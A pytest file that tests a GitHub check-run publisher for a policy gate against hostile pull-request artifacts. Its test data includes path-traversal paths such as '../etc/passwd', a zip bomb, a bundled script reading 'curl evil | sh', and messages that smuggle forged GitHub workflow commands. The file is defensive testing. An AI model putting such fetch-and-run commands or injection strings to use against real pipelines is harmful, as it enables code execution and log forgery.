"""`gate publish` end to end: a real report from a real repository, a real HTTP API, the
event as GitHub's webhook schema describes it; hostile artifacts; forks; read-only tokens."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from publish_fake import FakeGitHub, artifact_zip, gate_json, workflow_run_event

from gate.publish import artifact

HEAD = "c" * 40
RUN = 9001


def loose_repository(make_repo: Callable[..., Any]) -> Any:
    repo = make_repo()
    repo.write("requirements.txt", "requests>=2\n")
    repo.commit("loose pin")
    return repo


def report_for(make_repo: Callable[..., Any], *, failing: bool) -> bytes:
    repo = loose_repository(make_repo) if failing else make_repo()
    return gate_json(repo.path, "--select", "PIN,SEC")


def prepare(
    github: FakeGitHub, report: bytes | None, *, fork: bool = False, listed: bool = True
) -> dict[str, Any]:
    head_repo = "contributor/app" if fork else github.repository
    github.add_pull(7, HEAD, head_repo=head_repo)
    if report is not None:
        github.add_artifact(RUN, HEAD, artifact_zip({"gate.json": report}))
    return workflow_run_event(
        run_id=RUN,
        head_sha=HEAD,
        head_repo=head_repo,
        pulls=[] if fork or not listed else [7],
    )


def the_check(github: FakeGitHub) -> dict[str, Any]:
    assert len(github.check_runs) == 1, github.check_runs
    run = github.check_runs[0]
    assert (run["name"], run["head_sha"], run["status"]) == ("policy-gate", HEAD, "completed")
    return run


@pytest.mark.slow
def test_a_clean_pull_request_gets_a_passing_check(
    github: FakeGitHub, publish: Callable[..., Result], make_repo: Callable[..., Any]
) -> None:
    result = publish(prepare(github, report_for(make_repo, failing=False)))
    assert result.exit_code == 0, result.output
    run = the_check(github)
    assert run["conclusion"] == "success"
    assert "Coverage (COV) is taken from the pull request" in run["output"]["summary"]
    assert "check run" in result.output and "success" in result.output


@pytest.mark.slow
def test_a_failing_report_fails_the_check_with_annotations(
    github: FakeGitHub, publish: Callable[..., Result], make_repo: Callable[..., Any]
) -> None:
    result = publish(prepare(github, report_for(make_repo, failing=True)))
    assert result.exit_code == 0, result.output  # the verdict is the check, not this job
    run = the_check(github)
    assert run["conclusion"] == "failure"
    annotations = github.annotations(run)
    assert [(a["path"], a["annotation_level"]) for a in annotations] == [
        ("requirements.txt", "failure")
    ]
    assert annotations[0]["title"].startswith("PIN001")


@pytest.mark.slow
def test_a_fork_pull_request_is_found_by_head_repository_branch_and_sha(
    github: FakeGitHub, publish: Callable[..., Result], make_repo: Callable[..., Any]
) -> None:
    github.add_pull(8, "d" * 40, head_repo="contributor/app")  # same branch, older head
    result = publish(prepare(github, report_for(make_repo, failing=False), fork=True))
    assert result.exit_code == 0, result.output
    assert "pull request #7" in result.output
    lookups = github.api_requests("GET", "/repos/{owner}/{repo}/pulls")
    assert [r.query["head"] for r in lookups] == ["contributor:feature"]
    assert the_check(github)["conclusion"] == "success"


def test_a_run_without_an_artifact_fails_the_check(
    github: FakeGitHub, publish: Callable[..., Result]
) -> None:
    result = publish(prepare(github, None))
    assert result.exit_code == 0, result.output
    run = the_check(github)
    assert run["conclusion"] == "failure"
    assert "no valid result" in run["output"]["title"]
    assert "uploaded no artifact" in run["output"]["summary"]


def test_a_push_run_publishes_nothing(github: FakeGitHub, publish: Callable[..., Result]) -> None:
    event = workflow_run_event(run_id=RUN, head_sha=HEAD, head_repo="acme/app", event="push")
    result = publish(event)
    assert result.exit_code == 0, result.output
    assert github.check_runs == [] and github.requests == []


def test_no_open_pull_request_is_an_input_error(
    github: FakeGitHub, publish: Callable[..., Result]
) -> None:
    event = workflow_run_event(run_id=RUN, head_sha=HEAD, head_repo="contributor/app")
    result = publish(event)
    assert result.exit_code == 2
    assert "no open pull request has head contributor/app@" in result.output
    assert "Traceback" not in result.output


@pytest.mark.slow
def test_a_foreign_policy_gate_check_run_fails_ours(
    github: FakeGitHub, publish: Callable[..., Result], make_repo: Callable[..., Any]
) -> None:
    """A same-repository pull request can post its own `policy-gate` run: ours names it."""
    github.check_runs.append(
        {
            "id": 1,
            "name": "policy-gate",
            "head_sha": HEAD,
            "status": "completed",
            "conclusion": "success",
            "external_id": "",
            "output": {},
            "app": {"id": 15368, "slug": "github-actions"},
            "_annotations": [],
        }
    )
    result = publish(prepare(github, report_for(make_repo, failing=False)))
    assert result.exit_code == 0, result.output
    ours = github.check_runs[1]
    assert ours["conclusion"] == "failure"
    assert "foreign" in ours["output"]["title"]
    assert "check run 1)" in ours["output"]["summary"]
    (comment,) = github.comments[7]  # the comment says the same (comment: on-failure)
    assert "foreign policy-gate check run" in comment["body"].splitlines()[1]


def test_a_rerun_of_the_publisher_is_not_foreign(
    github: FakeGitHub, publish: Callable[..., Result], make_repo: Callable[..., Any]
) -> None:
    event = prepare(github, report_for(make_repo, failing=False))
    assert publish(event).exit_code == 0
    assert publish(event).exit_code == 0
    assert [r["conclusion"] for r in github.check_runs] == ["success", "success"]


def test_a_read_only_token_falls_back_to_annotations(
    github: FakeGitHub,
    publish: Callable[..., Result],
    make_repo: Callable[..., Any],
    summary_file: Path,
) -> None:
    github.forbidden.add(("POST", "/repos/{owner}/{repo}/check-runs"))
    result = publish(prepare(github, report_for(make_repo, failing=True)))
    assert result.exit_code == 1, result.output
    assert "checks: write" in result.output
    assert re.search(r"^::error file=requirements\.txt,", result.output, re.M)
    summary = summary_file.read_text(encoding="utf-8")
    assert "No token that can write check runs" in summary


# -- hostile artifacts -------------------------------------------------------------------


def finding(path: str, message: str = "bad", severity: str = "error") -> dict[str, Any]:
    return {
        "policy_id": "PIN001",
        "severity": severity,
        "title": "unpinned",
        "message": message,
        "fix": None,
        "fingerprint": "f",
        "help_url": "",
        "location": {
            "path": path,
            "start_line": 1,
            "end_line": 1,
            "start_column": None,
            "end_column": None,
            "commit": None,
        },
        "properties": {},
    }


def report(findings: list[dict[str, Any]], **top: Any) -> bytes:
    data = {
        "schema_version": 1,
        "tool": {"name": "policy-gate", "version": "0.1.0"},
        "verdict": "fail" if findings else "pass",
        "fail_on": "error",
        "no_fail": False,
        "base": None,
        "head": None,
        "counts": {"error": len(findings), "warning": 0, "notice": 0},
        "policies": [
            {
                "id": "PIN001",
                "title": "requirements pinned",
                "severity": "error",
                "status": "failed" if findings else "passed",
                "metrics": {},
                "findings": findings,
            }
        ],
        **top,
    }
    return json.dumps(data).encode()


def refused(github: FakeGitHub, result: Result, reason: str) -> None:
    assert result.exit_code == 0, result.output
    run = the_check(github)
    assert run["conclusion"] == "failure"
    assert "no valid result" in run["output"]["title"]
    assert reason in run["output"]["summary"], run["output"]["summary"]
    assert reason in result.output
    assert github.annotations(run) == []


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("../etc/passwd", "outside the repository"),
        ("/etc/passwd", "outside the repository"),
        ("src/../../x.py", "outside the repository"),
        ("C:/Windows/x.py", "outside the repository"),
        ("a\\..\\b.py", "outside the repository"),
        ("ok.py\n::error::x", "outside the repository"),
    ],
)
def test_paths_outside_the_repository_are_refused(
    github: FakeGitHub, publish: Callable[..., Result], path: str, reason: str
) -> None:
    result = publish(prepare(github, report([finding(path)])))
    refused(github, result, reason)


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        (b"not json", "is not UTF-8 JSON"),
        (b'{"schema_version": NaN}', "is not UTF-8 JSON"),
        (json.dumps({"schema_version": 1}).encode(), "does not match the json report schema"),
        (report([], schema_version=2), "schema_version"),
        (report([finding("a.py", severity="fatal")]), "severity"),
    ],
)
def test_malformed_reports_are_refused(
    github: FakeGitHub, publish: Callable[..., Result], payload: bytes, reason: str
) -> None:
    refused(github, publish(prepare(github, payload)), reason)


def test_an_oversized_artifact_is_refused_before_download(
    github: FakeGitHub, publish: Callable[..., Result]
) -> None:
    event = prepare(github, report([]))
    github.artifacts[RUN][0]["size_in_bytes"] = artifact.MAX_BYTES + 1
    refused(github, publish(event), "larger than")
    assert github.blob_requests == []


def test_a_zip_bomb_is_cut_at_the_bound(github: FakeGitHub, publish: Callable[..., Result]) -> None:
    bomb = artifact_zip({"gate.json": b" " * (artifact.MAX_BYTES + 10)})
    assert len(bomb) < 100_000
    refused(github, publish(prepare_raw(github, bomb)), "larger than")


def test_an_artifact_with_other_files_is_refused(
    github: FakeGitHub, publish: Callable[..., Result]
) -> None:
    archive = artifact_zip({"gate.json": report([]), "run.sh": b"curl evil | sh"})
    refused(github, publish(prepare_raw(github, archive)), "exactly 'gate.json'")


def prepare_raw(github: FakeGitHub, archive: bytes) -> dict[str, Any]:
    github.add_pull(7, HEAD)
    github.add_artifact(RUN, HEAD, archive)
    return workflow_run_event(run_id=RUN, head_sha=HEAD, head_repo=github.repository, pulls=[7])


def test_an_artifact_from_another_commit_is_refused(
    github: FakeGitHub, publish: Callable[..., Result]
) -> None:
    event = prepare(github, report([]))
    github.artifacts[RUN][0]["workflow_run"]["head_sha"] = "e" * 40
    refused(github, publish(event), "another commit or run")


def test_a_report_that_judged_another_commit_is_refused(
    github: FakeGitHub, publish: Callable[..., Result]
) -> None:
    refused(github, publish(prepare(github, report([], head="f" * 40))), "another commit")


def test_workflow_commands_in_messages_stay_data(
    github: FakeGitHub,
    publish: Callable[..., Result],
    summary_file: Path,
) -> None:
    """A message that tries to start a workflow command is printed escaped, on one line."""
    evil = "pinned\n::add-mask::x\r\n::stop-commands::t\n%0A::error::forged"
    github.forbidden.add(("POST", "/repos/{owner}/{repo}/check-runs"))
    result = publish(prepare(github, report([finding("requirements.txt", evil)])))
    assert result.exit_code == 1, result.output
    commands = [line for line in result.output.splitlines() if line.startswith("::")]
    assert commands and all(line.startswith(("::error ", "::notice")) for line in commands)
    assert not any("forged" in line and line.startswith("::error::") for line in commands)
    assert "::add-mask::" not in "\n".join(line[:12] for line in result.output.splitlines())
    assert "%250A" in result.output  # the "%" of the message's own "%0A" is escaped
    summary = summary_file.read_text(encoding="utf-8")
    assert "forged" in summary
    assert not any(line.startswith("::") for line in summary.splitlines())


@pytest.mark.slow
def test_ten_thousand_findings_are_capped_and_counted(
    github: FakeGitHub, publish: Callable[..., Result]
) -> None:
    many = [finding(f"src/m{n}.py", f"finding {n}") for n in range(10_000)]
    result = publish(prepare(github, report(many)))
    assert result.exit_code == 0, result.output
    run = the_check(github)
    assert len(github.annotations(run)) == 1000
    assert (
        len(github.api_requests("PATCH", "/repos/{owner}/{repo}/check-runs/{check_run_id}")) == 19
    )
    assert all(
        len(r.body["output"]["annotations"]) <= 50
        for r in github.api_requests("PATCH", "/repos/{owner}/{repo}/check-runs/{check_run_id}")
    )
    assert "9,000 of 10,000 annotation(s) not attached" in run["output"]["summary"]
    assert "1000 of 10000 annotation(s) attached" in result.output


def test_the_annotation_cap_is_a_flag(github: FakeGitHub, publish: Callable[..., Result]) -> None:
    many = [finding(f"src/m{n}.py") for n in range(120)]
    result = publish(prepare(github, report(many)), "--max-annotations", "60")
    assert result.exit_code == 0, result.output
    assert len(github.annotations(the_check(github))) == 60
    assert "60 of 120 annotation(s) not attached" in the_check(github)["output"]["summary"]


def test_an_artifact_the_token_cannot_read_fails_the_check_naming_the_permission(
    github: FakeGitHub, publish: Callable[..., Result]
) -> None:
    github.forbidden.add(("GET", "/repos/{owner}/{repo}/actions/runs/{run_id}/artifacts"))
    refused(github, publish(prepare(github, report([]))), "actions: read")


def test_a_credential_in_an_artifact_never_reaches_github_or_the_log(
    github: FakeGitHub, publish: Callable[..., Result]
) -> None:
    """The artifact is the pull request's: a message holding a URL credential is redacted
    before the check run, the comment or the log shows it."""
    import secrets as random_source

    token = "tok" + random_source.token_hex(12)
    message = f"unpinned: git+https://deploy:{token}@git.example.invalid/app.git"
    result = publish(prepare(github, report([finding("requirements.txt", message)])))
    assert result.exit_code == 0, result.output
    run = the_check(github)
    assert run["conclusion"] == "failure"
    sent = json.dumps([request.body for request in github.requests]) + result.output
    assert "git.example.invalid" in sent  # the message itself did reach GitHub
    for start in range(len(token) - 7):
        assert token[start : start + 8] not in sent
